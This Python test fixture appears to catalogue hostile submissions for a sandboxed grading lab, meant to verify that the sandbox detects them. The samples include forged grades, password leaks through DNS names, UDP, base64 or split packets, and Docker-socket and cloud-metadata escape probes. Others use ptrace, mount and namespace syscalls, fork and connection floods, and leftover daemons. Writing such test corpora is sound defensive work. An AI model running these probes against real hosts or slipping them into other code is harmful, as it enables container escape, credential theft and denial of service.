"""Submissions of students who cheat, break out, use up or leave behind: data.

Each is a `client.py`, aimed at one exercise: a bundled one, or one of tests/exercises. `gains` are
the most points that it may get: what an honest program gets that does as little, computed by hand
in a comment where that is not plain. One that finds a way out says `ESCAPED` on its output, and
one that finds what it must not know, or what another left, says `FOUND`.
"""

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent
from typing import Literal

from tests.forgeries import FORGERIES

Kind = Literal["forging", "reading", "escaping", "exhausting", "persisting"]


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """`tries` says what it is after; `states` are those that it may end in."""

    name: str
    kind: Kind
    exercise: str
    tries: str
    source: str
    gains: float
    states: tuple[str, ...] = ("graded",)


def _hostile(exercise: str, name: str, gains: float, tries: str, *sources: str,
             kind: Kind, states: str = "graded") -> Hostile:  # fmt: skip
    return Hostile(
        name=name, kind=kind, exercise=exercise, tries=tries, gains=gains,
        source="\n".join(dedent(one) for one in sources), states=tuple(states.split()),
    )  # fmt: skip


_TRY = """
import os, socket
HOST, PORT = os.environ["LAB_HOST"], int(os.environ["LAB_PORT"])
def connect(wait=1):
    try:
        socket.create_connection((HOST, PORT), wait).close()
    except OSError:
        pass
connect()
"""
"""Puts on the wire what everybody does, and does not look at what comes of it. In tell-them-apart
that is worth 5 (exit 1; elapsed 1 + 2 + 1), in brief 2 (exit 1, elapsed 1), in mail-once 13 where
it exits with 0 (exit 1 in each of five runs; tries 2; elapsed 2 + tries 1; secrets 2 + 1) and 10
where it exits with 1.
"""
_WORDS = 'WORDS = "open refused filtered unresolvable unreachable".split()\n'
TELL, BRIEF, MAIL, CLAIMS = 5, 2, 13, 1

# --- forging --------------------------------------------------------------------------------------

_TELLING = (
    ("one-word", 0, "a word without trying", 'print("refused")'),
    ("one-word-once-tried", 9, "the same word everywhere",  # refused 2 twice: 5 + 4
     _TRY, 'print("refused")'),
    ("every-word", TELL, "all words, one of them right", _TRY, _WORDS, 'print("\\n".join(WORDS))'),
    ("every-word-to-every-output", TELL, "the right word somewhere", _TRY, _WORDS,
     """
     for fd in (0, 1, 2):
         for word in WORDS:
             try:
                 os.write(fd, word.encode() + b"\\n")
             except OSError:
                 pass
     """),
    ("by-known-names", TELL, "answers for the names that `labctl show` tells", _TRY,
     """
     KNOWN = {"tcp.lab": "open", "closed.lab": "refused", "filtered.lab": "filtered",
              "nosuchhost.lab": "unresolvable", "firewall.lab": "unreachable"}
     print(KNOWN.get(HOST, "?"))
     """),
    ("by-known-ports", TELL, "answers for the ports that `labctl show` tells", _TRY,
     """
     KNOWN = {2005: "open", 2525: "refused", 25: "filtered", 3003: "unreachable"}
     print(KNOWN.get(PORT, "?"))
     """),
    ("by-whatever-names-the-run", TELL, "a word of the run's title in argv, environ, or /proc",
     _TRY, _WORDS,
     """
     import glob, sys
     texts = [*sys.argv, *os.environ, *os.environ.values(), os.uname().nodename]
     for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/self/cgroup",
                  "/proc/self/mountinfo", "/etc/hostname", "/etc/hosts", *glob.glob("/tmp/*")):
         try:
             texts.append(open(path, errors="replace").read())
         except OSError:
             pass
     own = open(__file__).read()
     print(*(word for word in WORDS for text in texts if word in text.replace(own, "")))
     """),
    ("exits-right-and-does-nothing", 0, "the exit code alone", "import os\nos._exit(0)"),
    ("exits-right-after-a-decoy", TELL, "the exit code, past the probe", _TRY, "os._exit(0)"),
    ("asks-for-the-name-only", TELL, "elapsed and exit for a look-up",
     """
     import os, socket
     try:
         socket.gethostbyname(os.environ["LAB_HOST"])
     except OSError:
         pass
     """),
    ("prints-other-runs-output", TELL, "output that looks like the reports of all runs", _TRY,
     """
     import json
     for word in ("open", "refused", "filtered"):
         print(json.dumps({"probe": 1, "outcome": "returned", "stdout": word, "exit": 0}))
     """),
    ("prints-markup", TELL, "marks in the page, the table and the terminal", _TRY,
     """
     print("</pre><script>points = 20</script>\\x1b[2J\\x1b]0;20/20\\x07=HYPERLINK(1)\\r20\\0")
     print("points: 20\\n```\\n# 20 of 20")
     """),
)  # fmt: skip

_BRIEFLY = (
    ("patched-clock", 1, "six seconds that its own clock does not see", _TRY,  # exit
     """
     import time
     time.sleep(4.3)
     time.monotonic = time.time = time.perf_counter = lambda: 0.0
     """),
    ("clock-of-the-probe", 3, "a report that says it took no time", _TRY,  # exit, refused
     """
     import sys, time
     frame = sys._getframe()
     while "monotonic" not in frame.f_globals:
         frame = frame.f_back
     began = frame.f_locals["started"]
     time.sleep(4.3)
     frame.f_globals["monotonic"] = lambda: began
     print("refused")
     """),
    ("patched-output", BRIEF, "stdout by way of the probe's own streams", _TRY,
     """
     import sys
     frame = sys._getframe()
     while frame:
         run = frame.f_locals.get("self")
         for name in ("_document", "_shared_report"):
             if hasattr(run, name):
                 found = getattr(run, name)
                 if isinstance(found, dict):
                     found.update(stdout="refused", exit=0, served=[], flows=[], tampered=[])
         frame = frame.f_back
     """),
)  # fmt: skip

_SEND = """
import os, smtplib, socket
HOST, PORT = os.environ["LAB_HOST"], int(os.environ["LAB_PORT"])
FROM, TO, WORD = os.environ["LAB_FROM"], os.environ["LAB_TO"], os.environ.get("LAB_PASSWORD", "-")
def send(server):
    server.sendmail(FROM, [TO], "Subject: x\\n\\nhello\\n")
"""
_LEAK = """
sock = socket.create_connection((HOST, PORT), 1)
sock.settimeout(1)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    sock.recv(200)
    leak()
    sock.recv(200)
except OSError:
    pass
"""
_LEAKED = MAIL - 3
"""All that trying is worth, but for the secrets: 2 + 1."""

_MAILING = (
    ("mail-to-the-port-that-works", 15, "the server's word, had elsewhere", _SEND,  # + again 2
     """
     for _ in range(3):
         try:
             with socket.create_connection((HOST, PORT), 1) as sock:
                 sock.settimeout(1)
                 sock.recv(1)
                 sock.recv(200)
             break
         except ConnectionError:
             continue
         except OSError:
             break
     with smtplib.SMTP(HOST, 2600, timeout=2) as server:
         if "LAB_USER" in os.environ:
             server.docmd("AUTH", "PLAIN AGFkYQBhZGE=")
         send(server)
     """),
    ("mail-by-another-name-of-the-host", MAIL, "the same, past the look-up of the target", _SEND,
     _TRY,
     """
     with smtplib.SMTP("smtp.lab", 2600, timeout=2) as server:
         send(server)
     """),
    ("one-port-for-two-servers", MAIL, "one source port for the target and for what works", _SEND,
     """
     def from_port(port, number):
         sock = socket.socket()
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
         sock.settimeout(1)
         sock.bind(("", number))
         sock.connect((HOST, port))
         return sock
     class Bound(smtplib.SMTP):
         def _get_socket(self, host, port, timeout):
             return from_port(port, 45678)
     try:
         kept = from_port(PORT, 45678)
         with Bound(HOST, 2600, timeout=2) as server:
             send(server)
     except (OSError, smtplib.SMTPException):
         pass
     """),
    ("smtp-spoken-to-the-name-server", MAIL, "an event of a message, from another service", _SEND,
     _TRY,
     """
     resolver = open("/etc/resolv.conf").read().split()[1]
     text = b"EHLO x\\r\\nMAIL FROM:<a>\\r\\nRCPT TO:<b>\\r\\nDATA\\r\\nx\\r\\n.\\r\\nQUIT\\r\\n"
     with socket.create_connection((resolver, 53), 1) as sock:
         sock.sendall(text)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.sendto(text, (resolver, 53))
     """),
    ("events-in-the-text", MAIL, "an event of a message, in the text of a command", _SEND, _TRY,
     """
     sock = socket.create_connection((HOST, PORT), 1)
     sock.settimeout(0.5)
     try:
         sock.recv(200)
         event = b'{"at_s": 1, "event": "message", "peer": "", "detail": {}}'
         sock.sendall(b'X "}}\\r\\nX \\n' + event + b"\\r\\n")
         sock.recv(200)
     except OSError:
         pass
     """),
    ("twice-over-one-connection", 15, "a message twice, and counted once", _SEND,
     # exit 1 in works, never, goodbye and silent; tries 2 + 1; elapsed 2; gone 3, for it is gone
     # before the second; secrets 2 + 1
     """
     with smtplib.SMTP(HOST, PORT, timeout=2) as server:
         send(server)
         server.rset()
         send(server)
     """),
    # What of it is there depends on who is faster: works 2 + 1, gone 3, goodbye 3 beside the 13.
    ("without-a-word-in-between", 22, "a dialogue in one packet, and away", _SEND,
     """
     with socket.create_connection((HOST, PORT), 1) as sock:
         lines = "EHLO x", f"MAIL FROM:<{FROM}>", f"RCPT TO:<{TO}>", "DATA", "x", ".", "QUIT", ""
         sock.sendall("\\r\\n".join(lines).encode())
     """),
    ("hides-its-tries", MAIL - 1, "more tries than are allowed, by another name", _SEND, _TRY,
     # without the tries of never (2) and of silent (1), and with again (2): it waits for the reset
     """
     for _ in range(6):
         try:
             with socket.create_connection(("smtp.lab", PORT), 0.3) as sock:
                 sock.recv(1)
         except OSError:
             pass
     """),
    ("password-in-pieces", _LEAKED, "a byte at a time, a segment each", _SEND,
     """
     def leak():
         for byte in WORD:
             sock.sendall(byte.encode())
     """, _LEAK),
    ("password-behind-much", _LEAKED, "behind more than is kept of a packet", _SEND,
     'def leak(): sock.sendall(b"NOOP " + b"x" * 3000 + WORD.encode() + b"\\r\\n")', _LEAK),
    ("password-in-base64", _LEAKED + 1, "AUTH PLAIN in the clear", _SEND,  # + AUTH
     """
     import base64
     def leak():
         text = base64.b64encode(f"\\0ada\\0{WORD}".encode())
         sock.sendall(b"AUTH PLAIN " + text + b"\\r\\n")
     """, _LEAK),
    ("password-in-base64-lines", _LEAKED, "base64, broken into lines", _SEND,
     """
     import base64
     def leak():
         text = base64.b64encode(f"\\0ada\\0{WORD}".encode())
         sock.sendall(b"\\r\\n".join(text[n:n + 4] for n in range(0, len(text), 4)))
     """, _LEAK),
    ("password-as-a-name", _LEAKED, "in a question to the name server", _SEND,
     """
     def leak():
         try:
             socket.gethostbyname(f"{WORD}.lab")
         except OSError:
             pass
     """, _LEAK),
    ("password-in-datagrams", _LEAKED, "past the connection, over UDP", _SEND,
     """
     def leak():
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
             other.sendto(WORD.encode(), (HOST, 9))
     """, _LEAK),
    # Known and not ruled out: nobody can look for every way to write a text. See docs/trust.md.
    ("password-backwards", MAIL, "in another spelling; this one can't be caught", _SEND,
     'def leak(): sock.sendall(WORD[::-1].encode() + b"\\r\\n")', _LEAK),
)  # fmt: skip

_FINDS = """
import os, sys
SECRETS = (b"again_after", b"max_points", b"exercise.yaml", b"labctl-grade/1", b"Somebody listens")
def look(where, data):
    for one in SECRETS:
        if one in data.replace(OWN, b""):
            print("FOUND", one, where)
OWN = open(__file__, "rb").read()
"""
"""What only the exercise and those who grade know: what is expected, and what runs are called."""

_READING = (
    ("walks-the-files", "an exercise, a key, another's program in any file", _FINDS,
     """
     for folder, folders, names in os.walk("/"):
         if folder == "/":
             folders[:] = [one for one in folders if one not in ("proc", "sys", "usr")]
         for name in names:
             path = os.path.join(folder, name)
             try:
                 if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
                     look(path, open(path, "rb").read())
             except OSError:
                 pass
     """),
    ("reads-the-image", "an exercise or an answer in the image", _FINDS,
     """
     for folder, _, names in os.walk("/usr"):
         for name in names:
             if name.endswith((".yaml", ".yml", ".json", ".toml")) or name == "client.py":
                 try:
                     look(folder, open(os.path.join(folder, name), "rb").read())
                 except OSError:
                     pass
     """),
    ("reads-its-memory", "what is expected, in its own memory", _FINDS,
     """
     import json
     with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
         for line in maps.read().splitlines():
             place, mode, *_ = line.split()
             start, end = (int(one, 16) for one in place.split("-"))
             if "r" in mode and "memfd:labctl" in line and end - start < 1 << 22:
                 memory.seek(start)
                 data = memory.read(end - start).partition(b"\\n")[0]
                 request = json.loads(data)
                 print(*("FOUND " + key for key in request
                         if key not in ("source", "filename", "limit_s", "most_s", "argv", "env",
                                        "imports")))
                 print(*("FOUND " + key for key in request["env"] if key[:4] != "LAB_"))
     """),
    ("looks-with-gc", "the probe's objects", _FINDS,
     """
     import gc
     for thing in gc.get_objects():
         if type(thing).__name__ in ("Check", "Run", "Exercise", "Ticket", "Grade"):
             print("FOUND", thing)
     """),
    ("looks-up-the-frames", "what called it, and with what", _FINDS,
     """
     frame = sys._getframe().f_back
     while frame:
         for key, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
             if key not in ("source", "request", "namespace", "last", "body"):
                 look(key, repr(value).encode().replace(repr(OWN.decode())[1:-1].encode(), b""))
         frame = frame.f_back
     """),
    ("reads-tracebacks", "the paths and lines of what grades it", _FINDS,
     """
     import traceback
     try:
         raise ValueError
     except ValueError as error:
         for frame, line in traceback.walk_stack(None):
             look("stack", str(frame.f_code.co_filename).encode())
             name = frame.f_code.co_filename
             if "/labctl/" in name and "/probe/" not in name:
                 print("FOUND", name)
     """),
    ("reads-environment-and-arguments", "hints in argv, environ, the limits", _FINDS,
     """
     look("argv", " ".join(sys.argv + sys.orig_argv).encode())
     look("environ", repr(dict(os.environ)).encode())
     look("init", open("/proc/1/cmdline", "rb").read())
     print(*("FOUND " + key for key in os.environ
             if key.startswith(("DOCKER", "LABCTL", "AWS", "SSH", "HTTP"))))
     """),
    ("reads-other-processes", "what others do, in /proc", _FINDS,
     """
     for pid in filter(str.isdigit, os.listdir("/proc")):
         if int(pid) == os.getpid():
             continue
         if pid != "1":
             print("FOUND a process", pid, open(f"/proc/{pid}/cmdline").read())
         for name in ("environ", "mem", "maps", "fd/0", "fd/1", "root/etc/shadow", "stack"):
             try:
                 open(f"/proc/{pid}/{name}", "rb").read(100)
                 print("FOUND", pid, name)
             except OSError:
                 pass
     """),
    ("reads-the-supervisor", "the request and the key, out of its parent", _FINDS,
     """
     import ctypes
     libc = ctypes.CDLL(None, use_errno=True)
     class Piece(ctypes.Structure):
         _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
     room = ctypes.create_string_buffer(64)
     here = Piece(ctypes.addressof(room), 64)
     there = Piece(0x400000, 64)
     if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
         print("FOUND memory")
     pidfd = libc.syscall(434, os.getppid(), 0)
     if pidfd >= 0 and libc.syscall(438, pidfd, 0, 0) >= 0:
         print("FOUND a descriptor")
     """),
    ("asks-the-tap", "what is captured, from who captures", _FINDS,
     """
     import socket
     own = socket.gethostbyname(socket.gethostname())
     for host in (own, "127.0.0.1"):
         for port in [*range(1, 100), 2375, 2376, 8000, 8080]:
             with socket.socket() as sock:
                 sock.settimeout(0.2)
                 if sock.connect_ex((host, port)) == 0:
                     print("FOUND a listener", port)
     for line in open("/proc/net/unix").read().splitlines()[1:]:
         if "@" in line:
             print("FOUND", line)
     """),
)  # fmt: skip

_REACH = """
import os, socket
def reach(host, port, wait=0.3):
    try:
        socket.create_connection((host, port), wait).close()
        print("ESCAPED to", host, port)
    except ConnectionRefusedError:
        print("ESCAPED to", host, port, "which refuses")
    except OSError:
        pass
RESOLVER = open("/etc/resolv.conf").read().split()[1]
NET = RESOLVER.rpartition(".")[0]
"""
_CALLS = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(what, number, *args):
    # x86-64's numbers: elsewhere, the calls are other ones, and as harmless.
    if libc.syscall(number, *args) >= 0:
        print("ESCAPED with", what)
def opens(path, mode="r+b"):
    try:
        open(path, mode, buffering=0).close()
        print("ESCAPED into", path)
    except OSError:
        pass
"""

# io_uring_setup is not among the calls: engines before 25 let everybody make it (docs/trust.md).
_ESCAPING = (
    ("the-gateway", "what listens on the host, by the bridge's address", _REACH,
     'for port in (22, 53, 80, 111, 2375, 2376): reach(NET + ".1", port)'),
    ("the-host", "what listens on the host, by its other addresses", _REACH,
     """
     for host in ("172.17.0.1", "172.18.0.1", "10.0.2.2", "192.168.1.1", "198.18.0.1"):
         for port in (22, 2375):
             reach(host, port)
     """),
    ("the-engine-s-socket", "the engine, and so root on the host", _REACH,
     """
     for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                  "/tmp/g2/docker.sock", "/run/podman/podman.sock", "\\0docker", "\\0containerd"):
         with socket.socket(socket.AF_UNIX) as sock:
             if sock.connect_ex(path) == 0:
                 print("ESCAPED to", path)
     """),
    ("other-labs", "the services of labs at work beside it", _REACH,
     """
     own = int(NET.split(".")[2])
     for third in {0, 1, own - 1, own + 1, own + 2}:
         for last in (2, 11, 14, 129):
             if 0 <= third < 256 and third != own:
                 reach(f"198.18.{third}.{last}", 53, 0.1)
     """),
    ("other-students", "another program in the same lab", _REACH,
     """
     own = socket.gethostbyname(socket.gethostname())
     for last in range(128, 136):
         if f"{NET}.{last}" != own:
             reach(f"{NET}.{last}", 9, 0.1)
     """),
    ("the-cloud-s-metadata", "keys of the machine that it runs on", _REACH,
     """
     for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254"):
         reach(host, 80)
     """),
    ("the-internet", "anybody outside", _REACH,
     'for host in ("1.1.1.1", "8.8.8.8"):\n    reach(host, 53)\n    reach(host, 443)'),
    ("names-as-letters", "to tell somebody outside, in questions for names", _REACH,
     """
     for name in ("0123456789.leak.example.com", "example.org", "metadata.google.internal",
                  "host.docker.internal", "gateway.docker.internal"):
         try:
             print("ESCAPED by", name, socket.gethostbyname(name))
         except socket.gaierror as error:
             if error.errno != socket.EAI_NONAME:
                 print("ESCAPED by", name, error)
     """),
    ("other-name-servers", "to tell somebody outside, past the lab's name server", _REACH,
     """
     question = bytes.fromhex("123401000001000000000000076578616d706c6503636f6d0000010001")
     for host in ("127.0.0.11", "8.8.8.8", NET + ".1", "172.17.0.1"):
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
             sock.settimeout(0.3)
             try:
                 sock.sendto(question, (host, 53))
                 print("ESCAPED by", host, sock.recv(500))
             except OSError:
                 pass
     """),
    ("raw-sockets", "packets of its own making, and others' packets", _CALLS,
     """
     for kind in ((2, 3, 6), (2, 3, 255), (2, 3, 1), (17, 3, 0x300), (17, 2, 0x300), (10, 3, 58)):
         try:
             socket.socket(*kind)
             print("ESCAPED with", kind)
         except OSError:
             pass
     """),
    ("ptrace", "its supervisor", _CALLS,
     'call("attach", 101, 16, os.getppid(), 0, 0)\ncall("seize", 101, 0x4206, os.getppid(), 0, 0)'),
    ("mounts", "another root", _CALLS,
     """
     call("mount", 165, b"none", b"/tmp", b"tmpfs", 0, None)
     call("remount", 165, None, b"/", None, 32, None)
     call("umount", 166, b"/tmp", 2)
     call("chroot", 161, b"/tmp")
     call("pivot_root", 155, b"/tmp", b"/tmp")
     call("open_tree", 428, -100, b"/", 1)
     call("fsopen", 430, b"proc", 0)
     """),
    ("namespaces", "root in a namespace of its own, and with it the kernel's less tried parts",
     _CALLS,
     """
     for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x02000000):
         call(hex(flag), 272, flag)
         call(f"clone {flag:x}", 435, None, 0)
     try:
         call("setns", 308, os.open("/proc/1/ns/net", os.O_RDONLY), 0)
     except OSError:
         pass
     """),
    ("less-used-calls", "the kernel's less tried parts", _CALLS,
     """
     call("bpf", 321, 0, ctypes.create_string_buffer(128), 128)
     call("perf_event_open", 298, ctypes.create_string_buffer(128), 0, -1, -1, 0)
     call("add_key", 248, b"user", b"x", b"x", 1, -3)
     call("keyctl", 250, 0, -3, 1)
     call("userfaultfd", 323, 0)
     call("init_module", 175, b"", 0, b"")
     call("kexec_load", 246, 0, 0, None, 0)
     call("syslog", 103, 3, ctypes.create_string_buffer(100), 100)
     call("open_by_handle_at", 304, -100, ctypes.create_string_buffer(100), 0)
     call("settimeofday", 164, ctypes.create_string_buffer(16), None)
     call("sethostname", 170, b"x", 1)
     """),
    ("other-users", "root, or anybody else", _CALLS,
     """
     call("setuid", 105, 0)
     call("setgid", 106, 0)
     call("setresuid", 117, 0, 0, 0)
     call("setgroups", 116, 0, None)
     for folder, _, names in os.walk("/usr"):
         for name in names:
             path = os.path.join(folder, name)
             if not os.path.islink(path) and os.stat(path).st_mode & 0o4000:
                 os.spawnl(os.P_WAIT, path, path, "root", "-c", "echo ESCAPED; id >&2")
     """),
    ("kernel-settings", "what the kernel and the engine let be written", _CALLS,
     """
     for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward",
                  "/proc/sys/net/ipv4/ip_unprivileged_port_start", "/proc/sysrq-trigger",
                  "/proc/1/oom_score_adj", "/proc/kcore", "/dev/mem", "/dev/kmsg",
                  "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids.max",
                  "/sys/kernel/uevent_helper", "/etc/hosts", "/etc/resolv.conf", "/etc/passwd"):
         opens(path)
     """),
    ("devices", "the host's disks", _CALLS,
     """
     for number in ((8, 0), (254, 0), (259, 0), (1, 1)):
         try:
             os.mknod(f"/tmp/d{number[0]}", 0o60600, os.makedev(*number))
             print("ESCAPED with a device", number)
         except OSError:
             pass
     """),
    ("signals", "the end of its supervisor", _CALLS,
     """
     for number in (9, 15, 2, 19, 11):
         try:
             os.kill(1, number)
         except OSError:
             pass
     """),
    ("limits-of-the-supervisor", "the end of its supervisor, by the kernel",
     """
     import resource, time
     for what in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
         try:
             resource.prlimit(os.getppid(), what, (0, 0))
         except OSError:
             pass
     time.sleep(0.5)
     """),
    ("firewall-and-routes", "the network of all that come after it", _CALLS,
     """
     import struct
     for protocol, kind in ((0, 24), (0, 20), (12, 2575), (12, 514)):  # routes, addresses, nftables
         body = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0)
         try:
             sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
             sock.settimeout(0.3)
             sock.send(struct.pack("IHHII", 16 + len(body), kind, 0x405, 1, 0) + body)
             answer = sock.recv(1000)
             if struct.unpack_from("i", answer, 16)[0] == 0:
                 print("ESCAPED with netlink", protocol, kind)
         except OSError:
             pass
     """),
)  # fmt: skip

_EXHAUSTING = (
    ("spins", 0, "the processor", "while True: pass"),
    ("forks", 2, "processes", _TRY,
     """
     import time
     end = time.monotonic() + 1
     while time.monotonic() < end:
         try:
             os.fork()
         except OSError:
             pass
     """),
    ("starts-threads", 2, "threads", _TRY,
     """
     import threading
     try:
         while True:
             threading.Thread(target=threading.Event().wait, daemon=True).start()
     except RuntimeError:
         pass
     """),
    ("takes-memory", 1, "memory",  # elapsed
     _TRY, 'kept = []\nwhile True: kept.append(bytearray(b"x") * (1 << 20))'),
    ("takes-memory-aside", 2, "memory, in processes", _TRY,
     """
     for _ in range(4):
         if os.fork() == 0:
             kept = bytearray(b"x") * (1 << 28)
             os._exit(0)
     """),
    ("fills-tmp", 2, "room in /tmp", _TRY,
     """
     try:
         with open("/tmp/full", "wb") as file:
             while True:
                 file.write(bytes(1 << 20))
     except OSError:
         pass
     """),
    ("takes-inodes", 2, "files in /tmp", _TRY,
     """
     try:
         for number in range(5000):
             open(f"/tmp/{number}", "w").close()
     except OSError:
         pass
     """),
    ("takes-descriptors", 2, "descriptors", _TRY,
     """
     try:
         while True:
             os.dup(1)
     except OSError:
         pass
     """),
    ("prints-much", 2, "room for output: 100 MB", _TRY,
     'import sys\nfor _ in range(100): sys.stdout.write("x" * 999_999 + "\\n")'),
    ("says-much", 2, "room for errors: 50 MB, no line of them", _TRY,
     'import sys\nfor _ in range(50): sys.stderr.write("x" * 1_000_000)'),
    ("floods-datagrams", 2, "the services, the capture", _TRY,
     """
     try:
         address = socket.gethostbyname(HOST)
     except OSError:
         address = "198.18.0.2"
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         for number in range(20_000):
             try:
                 sock.sendto(bytes(1000), (address, 1024 + number))
             except OSError:
                 pass
     """),
    ("floods-connections", 2, "the server's places", _TRY,
     """
     kept = []
     for _ in range(5000):
         sock = socket.socket()
         sock.setblocking(False)
         try:
             sock.connect_ex((HOST, PORT))
         except OSError:
             break
         kept = [*kept[-150:], sock]
     """),
    ("floods-the-name-server", 2, "the name server: questions that are not answered", _TRY,
     """
     import struct, threading
     name = b"\\6silent\\3lab\\0\\0\\1\\0\\1"
     question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name
     block = (struct.pack(">H", len(question)) + question) * 30_000
     resolver = open("/etc/resolv.conf").read().split()[1]
     def flood():
         with socket.create_connection((resolver, 53), 1) as sock:
             sock.settimeout(1.5)
             try:
                 sock.sendall(block)
             except OSError:
                 pass
     threads = [threading.Thread(target=flood) for _ in range(8)]
     for one in threads:
         one.start()
     """),
    ("sleeps-and-is-deaf", 0, "the time",
     """
     import signal, time
     for number in range(1, 65):
         try:
             signal.signal(number, signal.SIG_IGN)
         except (OSError, ValueError):
             pass
     while True:
         time.sleep(3600)
     """),
    ("a-text-that-never-comes", 1, "the time of who asks for a message",  # elapsed
     _TRY,
     """
     class Slow(Exception):
         def __str__(self):
             while True:
                 pass
         __repr__ = __str__
     raise Slow
     """),
    ("a-long-chain", 1, "the room of a report", _TRY,
     """
     error = None
     for number in range(50_000):
         new = ValueError("x" * 100)
         new.__cause__ = error
         error = new
     raise error
     """),
    ("a-long-message", 1, "the room of a report", _TRY, 'raise ValueError("x" * 50_000_000)'),
    ("crashes", 1, "the interpreter", _TRY, "import ctypes\nctypes.string_at(0)"),
    ("a-deep-source", 0, "who parses it", '"(" * 0\nx = ' + "(" * 5000 + ")" * 5000),
    ("a-null-in-the-source", 0, "who parses it", "x = 1\0\n"),
)  # fmt: skip

_PERSISTING = (
    ("leaves-files", "to be read by whoever comes next", _TRY,
     """
     for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/"):
         path = os.path.join(folder, ".left-by-somebody")
         if os.path.exists(path):
             print("FOUND", path)
         try:
             open(path, "w").write("x")
         except OSError:
             pass
     """),
    ("leaves-a-daemon", "to send in the name of whoever comes next", _TRY,
     """
     import time
     for pid in filter(str.isdigit, os.listdir("/proc")):
         if b"daemon" in open(f"/proc/{pid}/cmdline", "rb").read():
             print("FOUND", pid)
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
             os.execv("/proc/self/exe", ["daemon", "-c", "import time\\nwhile True: time.sleep(1)"])
         os._exit(0)
     """),
    ("leaves-a-listener", "to answer whoever comes next", _TRY,
     """
     for address in (("127.0.0.1", 7777), "\\0left"):
         family = socket.AF_INET if isinstance(address, tuple) else socket.AF_UNIX
         with socket.socket(family) as sock:
             if sock.connect_ex(address) == 0:
                 print("FOUND", address)
     server = socket.create_server(("127.0.0.1", 7777))
     named = socket.socket(socket.AF_UNIX)
     named.bind("\\0left")
     named.listen()
     if os.fork() == 0:
         import time
         time.sleep(600)
     """),
    ("leaves-connections-open", "to use up the server's places for whoever comes next", _TRY,
     """
     import time
     kept = []
     for _ in range(200):
         try:
             kept.append(socket.create_connection((HOST, PORT), 0.5))
         except OSError:
             break
     if os.fork() == 0:
         time.sleep(600)
     """),
    ("uses-up-ports", "no port left for whoever comes next", _TRY,
     """
     import time
     end = time.monotonic() + 3
     try:
         address = socket.gethostbyname(HOST)
         while time.monotonic() < end:
             socket.create_connection((address, PORT), 0.5).close()
     except OSError:
         pass
     """),
    ("leaves-half-a-packet", "a server that waits for the rest", _TRY,
     """
     resolver = open("/etc/resolv.conf").read().split()[1]
     for _ in range(100):
         sock = socket.create_connection((resolver, 53), 1)
         sock.sendall(b"\\xff\\xff\\0")
         os.dup(sock.fileno())
     """),
)  # fmt: skip

_MAIL_LEFT = (
    ("leaves-half-a-dialogue", MAIL, "a turn taken from whoever comes next", _SEND, _LEAK,
     'os._exit(0)'),
    ("takes-every-turn", MAIL, "the server's odd turns, at every port", _SEND, _TRY,
     """
     for _ in range(3):
         for port in (2601, 2602, 2603, PORT):
             try:
                 with socket.create_connection((HOST, port), 1) as sock:
                     sock.settimeout(0.4)
                     sock.recv(100)
             except OSError:
                 pass
     """),
    ("leaves-an-open-message", MAIL, "a message that ends in the time of whoever comes next", _SEND,
     """
     sock = socket.create_connection((HOST, PORT), 1)
     sock.settimeout(0.5)
     for text in (b"EHLO x", b"MAIL FROM:<a@b>", b"RCPT TO:<c@d>", b"DATA", b"half a message"):
         try:
             sock.sendall(text + b"\\r\\n")
             sock.recv(100)
         except OSError:
             break
     if os.fork() == 0:
         import time
         time.sleep(600)
         sock.sendall(b"\\r\\n.\\r\\n")
     """),
    ("floods-commands", MAIL, "the room for events", _SEND,
     """
     try:
         sock = socket.create_connection((HOST, PORT), 1)
         sock.settimeout(0.5)
         sock.recv(100)
         for _ in range(300):
             sock.sendall(b"NOOP " + b"x" * 4000 + b"\\r\\n")
             sock.recv(1000)
     except OSError:
         pass
     """),
)  # fmt: skip


_CLAIMED = tuple(
    one
    for one in FORGERIES
    if one.scenario == "refused-port" and one.attempt in ("smtplib", "socket")
)
_REAL = {"traceback-of-another-run", "plain-sockets-for-smtplib", "decoy-then-unix-socket"}
"""Forgeries whose exception is real, and whose stack alone is not: a check of what is raised does
not look at the stack. What they get is theirs.
"""

HOSTILE: tuple[Hostile, ...] = (
    *(_hostile("tell-them-apart", *one, kind="forging") for one in _TELLING),
    *(_hostile("brief", *one, kind="forging") for one in _BRIEFLY),
    *(_hostile("mail-once", *one, kind="forging") for one in _MAILING),
    *(
        _hostile("claims", one.name, 3 if one.name in _REAL else CLAIMS, one.claims, one.source,
                 kind="forging", states="graded tampered")
        for one in _CLAIMED
    ),
    *(_hostile("brief", name, BRIEF, tries, _TRY, *sources, kind="reading",
               states="tampered" if name == "looks-with-gc" else "graded")
      for name, tries, *sources in _READING),
    *(_hostile("brief", name, BRIEF, tries, _TRY, *sources, kind="escaping")
      for name, tries, *sources in _ESCAPING),
    # Other tests run beside these: who keeps the processors busy then waits for them, twice.
